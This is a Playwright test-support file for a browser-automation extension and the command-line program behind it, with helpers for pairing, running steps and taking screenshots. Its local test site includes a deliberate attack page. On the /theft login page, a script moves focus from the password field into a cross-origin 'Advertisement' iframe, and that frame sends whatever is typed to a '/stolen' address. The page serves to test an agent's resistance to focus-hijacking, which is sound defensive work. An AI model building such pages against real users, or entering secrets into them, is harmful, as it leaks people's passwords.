// What the tests need: the program with a data folder of its own, a small site, and a Chromium with the unpacked extension.

import { type ChildProcess, execFile, execFileSync, spawn } from "node:child_process";
import { existsSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { createInterface } from "node:readline";
import { fileURLToPath } from "node:url";
import { promisify } from "node:util";
import { type BrowserContext, chromium, expect, type Page, type Worker } from "@playwright/test";

const at = (path: string) => fileURLToPath(new URL(path, import.meta.url));
const PROGRAM = process.env.LEGWORK_BIN ?? at("../../../target/debug/legwork");
const EXTENSION = at("../../dist");
export const BROWSER =
  process.env.LEGWORK_TEST_BROWSER ??
  ["/usr/lib/chromium/chromium", "/usr/bin/chromium", "/usr/bin/google-chrome"].find(existsSync);

/** A page for the work of an agent that is told to enter a password. The frame is of another site, whose address has the
 * other name of this machine. On /theft, the frame takes the focus as soon as the field has it. */
const login = (port: number, steals: boolean) => `<!doctype html><title>Log in</title><h1>Log in</h1>
<label>Password <input type="password" name="password"></label><button type="button" onclick="leak()">Fetch</button>
<iframe src="http://localhost:${port}/thief" title="Advertisement"></iframe>
<script>
  const frame = document.querySelector("iframe");
  const field = document.querySelector("input");
  ${steals ? `field.addEventListener("focus", () => frame.contentWindow.postMessage("focus", "*"));` : ""}
  const leak = () => fetch("http://localhost:${port}/leaked", { mode: "no-cors" }).catch(() => undefined)
    .then(() => { document.querySelector("h1").textContent = "The answer has come"; });
</script>`;
const THIEF = `<!doctype html><label>Voucher <input name="voucher" oninput="fetch('/stolen?' + this.value)"></label>
<script>addEventListener("message", () => document.querySelector("input").focus());</script>`;

/** A page with a list, which asks for nothing. */
const SITE = `<!doctype html><title>Orders</title><h1>Orders</h1>
<p id="who">signed in as <b id="user"></b></p>
<form onsubmit="event.preventDefault(); add(this.elements.what.value)"><label>Item <input name="what"></label><button>Add</button></form>
<ul id="list"></ul><p role="status" id="count"></p>
<a href="/second">Second page</a> <a href="/third">Third page</a>
<iframe src="/frame" title="Notes"></iframe>
<button type="button" onclick="window.open('/second')">Open a window</button>
<script>
  document.getElementById("user").textContent = document.cookie.replace(/.*user=(\\w+).*/, "$1");
  function add(item) {
    const line = document.createElement("li");
    line.textContent = item;
    document.getElementById("list").append(line);
    document.getElementById("count").textContent = document.querySelectorAll("li").length + " items ordered";
  }
</script>`;
const plain = (title: string) =>
  `<!doctype html><title>${title}</title><h1>${title}</h1><a href="/">Orders</a> <a href="/second">Second page</a> <a href="/third">Third page</a>`;

/** How a run of a terminal ended. */
export interface TerminalEnd {
  code: number | null;
  output: string;
  page: Page;
  panel: Page;
}

/** The button that assigns a tab to a program that asks for one. */
export const ASSIGN = "Let it work in this tab";

export class Stand {
  readonly data = mkdtempSync(join(tmpdir(), "legwork-panel-"));
  /** The addresses that the site was asked for. */
  readonly requests: string[] = [];
  private programs: ChildProcess[] = [];
  private readonly site: Server;
  private constructor(
    readonly context: BrowserContext,
    readonly worker: Worker,
    site: Server,
  ) {
    this.site = site;
    site.on("request", ({ url }) => this.requests.push(url ?? ""));
  }

  static async open(): Promise<Stand> {
    const site = createServer((request, reply) => {
      reply.setHeader("Content-Type", "text/html");
      if (request.url === "/second") reply.end(plain("Second page"));
      else if (request.url === "/third") reply.end(plain("Third page"));
      else if (request.url === "/login" || request.url === "/theft")
        reply.end(login((site.address() as AddressInfo).port, request.url === "/theft"));
      else if (request.url === "/thief") reply.end(THIEF);
      else if (request.url === "/frame") reply.end("<label>Note <input name=note></label>");
      else reply.end(SITE);
    });
    await new Promise<void>((resolve) => site.listen(0, "127.0.0.1", resolve));
    const context = await chromium.launchPersistentContext("", {
      executablePath: BROWSER,
      ignoreDefaultArgs: ["--disable-extensions"],
      args: [
        "--headless=new",
        ...(process.getuid?.() === 0 ? ["--no-sandbox"] : []),
        `--load-extension=${EXTENSION}`,
        "--disable-features=DisableLoadExtensionCommandLineSwitch",
      ],
    });
    const worker = context.serviceWorkers()[0] ?? (await context.waitForEvent("serviceworker"));
    return new Stand(context, worker, site);
  }

  get siteUrl(): string {
    return `http://127.0.0.1:${(this.site.address() as AddressInfo).port}`;
  }

  private get environment(): NodeJS.ProcessEnv {
    const config = join(this.data, "config");
    return { ...process.env, LEGWORK_DATA_DIR: this.data, XDG_CONFIG_HOME: config, NO_COLOR: "1" };
  }

  /** Runs a command of the program to its end. */
  run(...words: string[]): string {
    return execFileSync(PROGRAM, words, { env: this.environment, encoding: "utf8" });
  }

  /** Runs a command that uses the site, which this process serves. */
  async runOnSite(...words: string[]): Promise<void> {
    await promisify(execFile)(PROGRAM, words, { env: this.environment });
  }

  /** Starts the program and waits for a line that matches. */
  async start(
    words: string[],
    line: RegExp,
    environment: NodeJS.ProcessEnv = {},
  ): Promise<{ process: ChildProcess; found: string }> {
    const started = spawn(PROGRAM, words, {
      env: { ...this.environment, LEGWORK_DECIDER: "literal", ...environment },
    });
    this.programs.push(started);
    const found = await new Promise<string>((resolve, reject) => {
      let said = "";
      for (const stream of [started.stdout, started.stderr]) {
        createInterface({ input: stream }).on("line", (text) => {
          said += `${text}\n`;
          const match = line.exec(text);
          if (match) resolve(match[1] ?? match[0]);
        });
      }
      started.on("exit", (code) => reject(new Error(`it ended with ${code}: ${said}`)));
    });
    return { process: started, found };
  }

  /** Writes the policy of the user, before the program is started. */
  writePolicy(text: string): void {
    mkdirSync(join(this.data, "config", "legwork"), { recursive: true });
    writeFileSync(join(this.data, "config", "legwork", "policy.toml"), text);
  }

  /** Writes a workflow; the path of its file. */
  writeSteps(...steps: string[]): string {
    const path = join(this.data, "steps.txt");
    writeFileSync(path, steps.join("\n"));
    return path;
  }

  /** Lets a terminal run steps in the tab of a page, which a person assigns; its exit code and what it printed. */
  async runInTab(options: string[], path: string, ...steps: string[]): Promise<TerminalEnd> {
    const { tab, page } = await this.tab(path);
    const { process: program, found } = await this.start(
      ["run", "--extension", ...options, this.writeSteps(...steps)],
      /Waiting for a tab of your browser \((.*)\)/,
      { LEGWORK_SERVER_PORT: "0" },
    );
    let output = "";
    for (const stream of [program.stdout, program.stderr])
      stream?.on("data", (data: Buffer) => {
        output += data;
      });
    const ended = new Promise<number | null>((resolve) => program.on("exit", resolve));
    await this.point(found);
    const panel = await this.panel(tab);
    if (await this.isPaired(found)) await panel.getByRole("button", { name: ASSIGN }).waitFor();
    else await pair(panel, this.run("panel", "pair", "--quiet"), ASSIGN);
    await panel.getByRole("button", { name: ASSIGN }).click();
    // The panel of a person is beside the tab, not in front of it.
    await page.bringToFront();
    return { code: await ended, output, page, panel };
  }

  private isPaired(server: string): Promise<boolean> {
    return this.worker.evaluate(async (origin) => {
      const { tokens } = (await chrome.storage.local.get("tokens")) as { tokens?: Record<string, string> };
      return tokens?.[origin] !== undefined;
    }, server);
  }

  /** Sets whether a run pauses when the person uses its tab: in these tests, the test is the person. */
  async pauseOnInput(pausesOnInput: boolean): Promise<void> {
    await this.worker.evaluate((value) => chrome.storage.local.set({ pausesOnInput: value }), pausesOnInput);
  }

  /** Starts the server; its address. */
  async serve(port = 0, environment: NodeJS.ProcessEnv = {}): Promise<{ process: ChildProcess; server: string }> {
    const line = /^(http:\/\/[^/]+)\/open/;
    const { process, found } = await this.start(["serve", "--port", String(port)], line, environment);
    return { process, server: found };
  }

  /** A server with a data folder of its own. */
  static async serverElsewhere(): Promise<{ server: string; run(...words: string[]): string; close(): void }> {
    const data = mkdtempSync(join(tmpdir(), "legwork-panel-"));
    const env = { ...process.env, LEGWORK_DATA_DIR: data, XDG_CONFIG_HOME: join(data, "config"), NO_COLOR: "1" };
    const program = spawn(PROGRAM, ["serve", "--port", "0"], { env });
    const server = await new Promise<string>((resolve) => {
      for (const stream of [program.stdout, program.stderr])
        createInterface({ input: stream }).on("line", (text) => {
          const match = /^(http:\/\/[^/]+)\/open/.exec(text);
          if (match) resolve(match[1]!);
        });
    });
    return {
      server,
      run: (...words) => execFileSync(PROGRAM, words, { env, encoding: "utf8" }),
      close: () => {
        program.kill("SIGKILL");
        rmSync(data, { recursive: true, force: true });
      },
    };
  }

  /** Opens a page of the site in a tab; the page and the number of its tab. */
  async tab(path = "/"): Promise<{ page: Page; tab: number }> {
    const page = await this.context.newPage();
    await page.goto(`${this.siteUrl}${path}#${Math.random()}`);
    const tab = await this.worker.evaluate(
      async (url) => (await chrome.tabs.query({})).find((tab) => tab.url === url)?.id,
      page.url(),
    );
    return { page, tab: tab ?? -1 };
  }

  /** Tells the extension where the server is. */
  async point(server: string): Promise<void> {
    await this.worker.evaluate((address) => chrome.storage.local.set({ server: address }), server);
  }

  /** The panel of a tab. */
  async panel(tab: number): Promise<Page> {
    const panel = await this.context.newPage();
    await panel.setViewportSize({ width: 400, height: 800 });
    await panel.goto(`${this.worker.url().replace("background.js", "panel.html")}?tab=${tab}`);
    return panel;
  }

  /** A server, a tab, and its panel in a paired browser. */
  async paired(
    environment: NodeJS.ProcessEnv = {},
  ): Promise<{ server: string; process: ChildProcess; page: Page; tab: number; panel: Page }> {
    const { server, process } = await this.serve(0, environment);
    await this.point(server);
    const { page, tab } = await this.tab();
    const panel = await this.panel(tab);
    await pair(panel, this.run("panel", "pair", "--quiet"));
    return { server, process, page, tab, panel };
  }

  async close(): Promise<void> {
    await this.context.close();
    for (const program of this.programs) program.kill("SIGKILL");
    await new Promise((resolve) => this.site.close(resolve));
    rmSync(this.data, { recursive: true, force: true });
  }
}

/** Enters a code, and waits for the button that the panel then has. */
export async function pair(panel: Page, code: string, then = "Start"): Promise<void> {
  await panel.getByLabel(/Enter the code/).fill(code.trim());
  await panel.getByRole("button", { name: "Pair", exact: true }).click();
  await expect(panel.getByRole("button", { name: then })).toBeVisible();
}

/** Starts a task for the model in the tab of a panel. */
export async function startTask(panel: Page, task: string): Promise<void> {
  await panel.getByLabel("What shall be done in this tab?").fill(task);
  await panel.getByRole("button", { name: "Start", exact: true }).click();
}

/** Starts steps in the tab of a panel. */
export async function startSteps(panel: Page, ...steps: string[]): Promise<void> {
  const field = panel.getByLabel("Steps, one a line");
  if (!(await field.isVisible())) await panel.getByLabel("Steps", { exact: true }).check();
  await field.fill(steps.join("\n"));
  await panel.getByRole("button", { name: "Start", exact: true }).click();
}

/** The newest task of a panel. */
export const newest = (panel: Page) => panel.locator("article.task").last();

/** The colour of a pixel of what a person sees of a page. */
export async function pixel(page: Page, x: number, y: number): Promise<[number, number, number]> {
  const png = (await page.screenshot({ animations: "allow", caret: "initial" })).toString("base64");
  return colourOf(page, `data:image/png;base64,${png}`, x, y);
}

/** The colour of a pixel of a picture. */
export function colourOf(page: Page, url: string, x: number, y: number): Promise<[number, number, number]> {
  return page.evaluate(
    async ([source, left, top]) => {
      const picture = await createImageBitmap(await (await fetch(source)).blob());
      const canvas = new OffscreenCanvas(picture.width, picture.height);
      const context = canvas.getContext("2d")!;
      context.drawImage(picture, 0, 0);
      const [r, g, b] = context.getImageData(left, top, 1, 1).data;
      return [r!, g!, b!] as [number, number, number];
    },
    [url, x, y] as const,
  );
}

/** Whether the border is around a page. */
export const hasBorder = async (page: Page): Promise<boolean> => {
  const [red, green, blue] = await pixel(page, 1, 100);
  return blue - green > 80 && red > 80;
};

/** Writes pictures of a panel in both themes to the folder in LEGWORK_SHOTS, if there is one. */
export async function pictures(panel: Page, name: string): Promise<void> {
  const folder = process.env.LEGWORK_SHOTS;
  if (!folder) return;
  for (const colorScheme of ["light", "dark"] as const) {
    await panel.emulateMedia({ colorScheme });
    await panel.screenshot({ path: join(folder, `${name}-${colorScheme}.png`), fullPage: true });
  }
  await panel.emulateMedia({ colorScheme: "light" });
}
